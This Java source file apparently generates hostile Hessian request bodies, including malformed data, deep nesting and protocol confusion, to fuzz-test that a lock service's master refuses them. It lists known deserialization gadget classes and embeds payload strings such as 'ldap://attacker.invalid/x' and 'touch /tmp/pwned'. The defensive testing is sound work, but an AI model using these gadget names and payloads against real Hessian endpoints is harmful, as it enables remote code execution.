package io.lockfacade.reliability.hostile;

import com.caucho.hessian.io.Hessian2Output;
import io.lockfacade.testsupport.hessian.HessianCalls;
import io.lockfacade.testsupport.hostile.Tripwire;

import javax.management.BadAttributeValueExpException;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import static io.lockfacade.reliability.hostile.HessianBytes.bytes;
import static io.lockfacade.reliability.hostile.HessianBytes.callHeader;
import static io.lockfacade.reliability.hostile.HessianBytes.concat;
import static io.lockfacade.reliability.hostile.HessianBytes.repeat;
import static io.lockfacade.testsupport.hessian.HessianCalls.call;

/**
 * Generates request bodies the master must refuse, from a seed: none is a call the master would carry out
 * ({@link CallValidity} throws back the few random mutations that are). Each body says which {@link Kind} it is.
 */
public final class HostileBodies {

    /** The lock that a fuzz run keeps held and that hostile calls aim at: it must come through unchanged. */
    public static final String TARGET_TYPE = "held";
    /** Key of {@link #TARGET_TYPE}'s lock. */
    public static final String TARGET_KEY = "k";

    /** Class names of known Hessian gadget chains (marshalsec and the Dubbo/SOFA CVEs) and other dangerous types. */
    public static final List<String> GADGET_CLASSES = List.of(
            "com.rometools.rome.feed.impl.EqualsBean",
            "com.rometools.rome.feed.impl.ToStringBean",
            "com.sun.syndication.feed.impl.ObjectBean",
            "org.apache.xbean.naming.context.ContextUtil$ReadOnlyBinding",
            "org.apache.xbean.naming.context.WritableContext",
            "com.caucho.naming.QName",
            "com.caucho.naming.ContextImpl",
            "org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
            "org.springframework.jndi.support.SimpleJndiBeanFactory",
            "org.springframework.aop.aspectj.AspectInstanceFactory",
            "javax.management.BadAttributeValueExpException",
            "com.sun.rowset.JdbcRowSetImpl",
            "javax.naming.spi.ContinuationDirContext",
            "javax.naming.CannotProceedException",
            "javax.swing.UIDefaults",
            "sun.swing.SwingLazyValue",
            "java.lang.ProcessBuilder",
            "java.lang.Runtime",
            "java.lang.Class",
            "java.lang.Thread",
            "java.net.URL",
            "java.io.File",
            "java.util.HashMap",
            "java.util.TreeMap",
            "java.util.HashSet",
            "java.util.PriorityQueue",
            "java.util.concurrent.atomic.AtomicLong",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "org.codehaus.groovy.runtime.MethodClosure",
            "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
            "io.lockfacade.api.LockGrant",
            Tripwire.NAME);

    private static final String[] METHODS = {"tryLock", "unlock", "renew", "isLockTypeEmpty"};
    private static final int[] ARG_COUNTS = {5, 3, 4, 1};
    private static final int MAX_BODY = 60 * 1024;

    /** What kind of hostility a body carries. */
    public enum Kind {
        RANDOM_BYTES, RANDOM_AFTER_CALL_TAG, TRUNCATED_CALL, MUTATED_CALL, HUGE_DECLARED_LENGTH, DEEP_NESTING,
        WRONG_ARGUMENT_TYPES, UNKNOWN_METHOD, WRONG_ARGUMENT_COUNT, GADGET_OBJECT, HOSTILE_MAP, BAD_ARGUMENT_VALUES,
        OTHER_PROTOCOL, TRAILING_DATA, OVERSIZED
    }

    /** One body to send. */
    public record Body(Kind kind, byte[] bytes) {
    }

    private final Random random;

    /** @param seed the seed of every choice */
    public HostileBodies(long seed) {
        this.random = new Random(seed);
    }

    /** @return the next hostile body, of a random kind ({@link Kind#OVERSIZED} only rarely) */
    public Body next() {
        Kind kind = random.nextInt(200) == 0 ? Kind.OVERSIZED : Kind.values()[random.nextInt(Kind.values().length - 1)];
        return next(kind);
    }

    /** @return the next hostile body of {@code kind} */
    public Body next(Kind kind) {
        while (true) {
            byte[] body = switch (kind) {
                case RANDOM_BYTES -> randomBytes(random.nextInt(2_000));
                case RANDOM_AFTER_CALL_TAG -> concat(bytes('H', 2, 0, 'C'), randomBytes(random.nextInt(500)));
                case TRUNCATED_CALL -> truncated();
                case MUTATED_CALL -> mutated();
                case HUGE_DECLARED_LENGTH -> hugeLength();
                case DEEP_NESTING -> deepNesting();
                case WRONG_ARGUMENT_TYPES -> wrongTypes();
                case UNKNOWN_METHOD -> unknownMethod();
                case WRONG_ARGUMENT_COUNT -> wrongCount();
                case GADGET_OBJECT -> gadget();
                case HOSTILE_MAP -> hostileMap();
                case BAD_ARGUMENT_VALUES -> badValues();
                case OTHER_PROTOCOL -> otherProtocol();
                case TRAILING_DATA -> concat(validCall(), pick(bytes('Z', 'Z'), bytes('C'), randomBytes(1 + random.nextInt(50)),
                        validCall()));
                case OVERSIZED -> concat(callHeader("tryLock", 5), randomBytes(MAX_BODY + 10 * 1024));
            };
            if (!CallValidity.wouldBeExecuted(body)) {
                return new Body(kind, body);
            }
        }
    }

    /** @return a well-formed call of the contract with valid arguments aimed at the target lock */
    public byte[] validCall() {
        String owner = "intruder-" + random.nextInt(1000);
        return switch (random.nextInt(4)) {
            case 0 -> call("tryLock", TARGET_TYPE, TARGET_KEY, owner, 60_000L, 0L);
            case 1 -> call("unlock", TARGET_TYPE, TARGET_KEY, owner);
            case 2 -> call("renew", TARGET_TYPE, TARGET_KEY, owner, 60_000L);
            default -> call("isLockTypeEmpty", TARGET_TYPE);
        };
    }

    private byte[] truncated() {
        byte[] whole = validCall();
        return java.util.Arrays.copyOf(whole, 1 + random.nextInt(whole.length - 1));
    }

    private byte[] mutated() {
        byte[] body = validCall().clone();
        int flips = 1 + random.nextInt(4);
        for (int i = 0; i < flips; i++) {
            int at = random.nextInt(body.length);
            body[at] = random.nextBoolean() ? (byte) random.nextInt(256) : (byte) (body[at] ^ (1 << random.nextInt(8)));
        }
        return body;
    }

    private byte[] hugeLength() {
        byte[] header = callHeader(pick(METHODS), 5);
        byte[] value = pick(
                bytes('S', 0xff, 0xff, 'a', 'b'),                        // a 65535-char string chunk, 2 given
                concat(repeat('R', 1), bytes(0xff, 0xff), repeat('x', 100)), // non-final chunks, never ending
                bytes('B', 0xff, 0xff, 1, 2, 3),                          // binary of 65535 bytes, 3 given
                bytes('A', 0xff, 0xff),                                   // non-final binary chunk
                concat(bytes('V'), typeName("[long"), bytes('I', 0x7f, 0xff, 0xff, 0xff)), // long[2^31-1]
                concat(bytes('V'), typeName("[int"), bytes(0x9f)),       // int[] of 15, 0 given
                concat(bytes('V'), typeName("[byte"), bytes('I', 0x7f, 0xff, 0xff, 0xfe)),
                concat(bytes('C'), typeName("x"), bytes('I', 0x7f, 0xff, 0xff, 0xff)), // class with 2^31-1 fields
                bytes('Q', 'I', 0x7f, 0xff, 0xff, 0xff),                  // back-reference to object 2^31-1
                bytes('O', 'I', 0x7f, 0xff, 0xff, 0xff),                  // instance of class def 2^31-1
                bytes(0x58, 'I', 0x7f, 0xff, 0xff, 0xff),                 // untyped fixed list of 2^31-1
                bytes('L', 0x7f),                                        // a long cut short
                bytes('D', 0x40),                                        // a double cut short
                bytes('J', 0, 0));                                       // a date cut short
        return concat(header, random.nextBoolean() ? concat(stringArg("t"), value) : value);
    }

    private byte[] deepNesting() {
        int depth = 1_000 + random.nextInt(50_000);
        int opener = pick(new int[] {'W', 'H', 0x57, 0x79, 'M'});
        byte[] body = concat(callHeader(pick(METHODS), 3), repeat(opener, depth));
        return body.length > MAX_BODY ? java.util.Arrays.copyOf(body, MAX_BODY) : body;
    }

    private byte[] wrongTypes() {
        int method = random.nextInt(METHODS.length);
        Object[] args = new Object[ARG_COUNTS[method]];
        for (int i = 0; i < args.length; i++) {
            args[i] = random.nextInt(3) == 0 ? validValue(method, i) : oddValue();
        }
        return call(METHODS[method], args);
    }

    private Object validValue(int method, int index) {
        return index < (method == 3 ? 1 : 3) ? TARGET_TYPE : (Object) 60_000L;
    }

    private Object oddValue() {
        Map<String, String> map = new HashMap<>();
        map.put("k", "v");
        return pick(new Object[] {42, true, 3.25, new Date(0), new byte[] {1, 2, 3}, new ArrayList<>(List.of("a", "b")),
                map, new int[] {1, 2}, new long[] {1L}, new String[] {"held"}, 'c', (short) 7,
                Long.MAX_VALUE, "not-a-number", null, new ArrayList<>(List.of(1, "x"))});
    }

    private byte[] unknownMethod() {
        String name = pick(new String[] {"shutdown", "equals", "hashCode", "toString", "getClass", "wait", "notify",
                "_hessian_getAttribute", "tryLock_5", "TRYLOCK", "tryLock ", " unlock", "forceRemove", "exit",
                "getService", "x".repeat(1 + random.nextInt(5_000)), "tryLock\u0000", "unl\u00f6ck",
                "isLockTypeEmpty\n", ""});
        return call(name, TARGET_TYPE, TARGET_KEY, "intruder");
    }

    private byte[] wrongCount() {
        int method = random.nextInt(METHODS.length);
        int argc = ARG_COUNTS[method];
        int wrong = random.nextBoolean() ? argc + 1 + random.nextInt(10) : random.nextInt(argc);
        Object[] args = new Object[wrong];
        for (int i = 0; i < wrong; i++) {
            args[i] = i < 3 ? TARGET_TYPE : (Object) 60_000L;
        }
        byte[] body = call(METHODS[method], args);
        if (random.nextInt(8) == 0) { // a declared count the body does not carry at all
            body = concat(callHeader(METHODS[method], pick(new int[] {-1, Integer.MAX_VALUE, Integer.MIN_VALUE, 100_000})),
                    stringArg(TARGET_TYPE));
        }
        return body;
    }

    private byte[] gadget() {
        String type = pick(GADGET_CLASSES);
        int method = random.nextInt(METHODS.length);
        int argc = ARG_COUNTS[method];
        int position = random.nextInt(argc);
        return HessianCalls.write(out -> {
            out.writeVersion();
            out.startCall(METHODS[method], argc);
            for (int i = 0; i < argc; i++) {
                if (i == position) {
                    writeGadget(out, type);
                } else if (i < (method == 3 ? 1 : 3)) {
                    out.writeString(TARGET_TYPE);
                } else {
                    out.writeLong(60_000L);
                }
            }
            out.completeCall();
        });
    }

    /** Writes an instance of {@code type} in one of several shapes: bare, in a list, as a map value, real. */
    private void writeGadget(Hessian2Output out, String type) throws IOException {
        switch (random.nextInt(4)) {
            case 0 -> object(out, type);
            case 1 -> {
                out.writeListBegin(1, null);
                object(out, type);
                out.writeListEnd();
            }
            case 2 -> {
                out.writeMapBegin(null);
                out.writeString("k");
                object(out, type);
                out.writeMapEnd();
            }
            default -> out.writeObject(new BadAttributeValueExpException(TARGET_KEY));
        }
    }

    private byte[] hostileMap() {
        return HessianCalls.write(out -> {
            out.writeVersion();
            out.startCall(pick(METHODS), 3);
            out.writeString(TARGET_TYPE);
            out.writeMapBegin(random.nextBoolean() ? "java.util.HashMap" : null);
            for (int i = 0; i < 1 + random.nextInt(4); i++) {
                object(out, pick(GADGET_CLASSES)); // the key: hashCode()/equals() run while the map fills
                out.writeString("v");
            }
            out.writeMapEnd();
            out.writeString("intruder");
            out.completeCall();
        });
    }

    private void object(Hessian2Output out, String type) throws IOException {
        object(out, type, 0);
    }

    private void object(Hessian2Output out, String type, int depth) throws IOException {
        String[] fields = {"_obj", "_beanClass", "name", "target", "value"};
        int count = 1 + random.nextInt(fields.length);
        if (out.writeObjectBegin(type) == -1) {
            out.writeClassFieldLength(count);
            for (int i = 0; i < count; i++) {
                out.writeString(fields[i]);
            }
            out.writeObjectBegin(type);
        }
        for (int i = 0; i < count; i++) {
            if (depth < 3 && random.nextInt(3) == 0) {
                object(out, pick(GADGET_CLASSES.subList(0, 6)), depth + 1);
            } else {
                out.writeString(random.nextBoolean() ? "ldap://attacker.invalid/x" : "touch /tmp/pwned");
            }
        }
    }

    private byte[] badValues() {
        String control = "k\u0007" + random.nextInt(10);
        String tooLong = "x".repeat(257 + random.nextInt(3_000));
        return switch (random.nextInt(9)) {
            case 0 -> call("tryLock", TARGET_TYPE, TARGET_KEY, "intruder", 50L, 0L);             // lease too short
            case 1 -> call("tryLock", TARGET_TYPE, TARGET_KEY, "intruder", 60_000L, -1L);        // negative wait
            case 2 -> call("tryLock", TARGET_TYPE, TARGET_KEY, "intruder", 90_000_000L, 0L);     // lease over 24 h
            case 3 -> call("renew", TARGET_TYPE, TARGET_KEY, "intruder", 1L);
            case 4 -> call("unlock", TARGET_TYPE, control, "intruder");
            case 5 -> call("unlock", "", TARGET_KEY, "intruder");
            case 6 -> call("tryLock", tooLong, TARGET_KEY, "intruder", 60_000L, 0L);
            case 7 -> call("renew", TARGET_TYPE, TARGET_KEY, null, 60_000L);
            default -> call("isLockTypeEmpty", random.nextBoolean() ? (Object) null : "t\n");
        };
    }

    private byte[] otherProtocol() {
        return pick(
                concat(bytes('c', 1, 0, 'm', 0, 6), "unlock".getBytes(), bytes('z')), // Hessian 1 call
                concat(bytes('H', 3, 0), validCall()),
                concat(bytes('H', 2, 0, 'R'), stringArg("x")),                     // a reply, not a call
                concat(bytes('H', 2, 0, 'F', 'H'), stringArg("code"), bytes('Z')),  // a fault
                concat(bytes('H', 2, 0, 'E'), stringArg("envelope")),               // an envelope
                concat(bytes('H', 2, 0, 'P'), randomBytes(20)),                     // a packet
                "POST /remoting/MemoryLockService HTTP/1.1\r\n\r\n".getBytes(),
                "{\"method\":\"tryLock\",\"params\":[\"held\",\"k\"]}".getBytes(),
                "<?xml version=\"1.0\"?><methodCall><methodName>tryLock</methodName></methodCall>".getBytes(),
                javaSerializationHeader(),
                new byte[0]);
    }

    private static byte[] javaSerializationHeader() {
        return concat(bytes(0xac, 0xed, 0x00, 0x05, 0x73, 0x72), typeName("java.util.HashMap"));
    }

    private static byte[] typeName(String name) {
        return HessianCalls.write(out -> out.writeString(name));
    }

    private static byte[] stringArg(String value) {
        return typeName(value);
    }

    private byte[] randomBytes(int length) {
        byte[] out = new byte[length];
        random.nextBytes(out);
        return out;
    }

    @SafeVarargs
    private <T> T pick(T... options) {
        return options[random.nextInt(options.length)];
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private int pick(int[] options) {
        return options[random.nextInt(options.length)];
    }

    /** @return how many bodies of each kind {@code count} draws give, for the test's report */
    public static Map<Kind, Integer> newTally() {
        return new HashMap<>();
    }
}
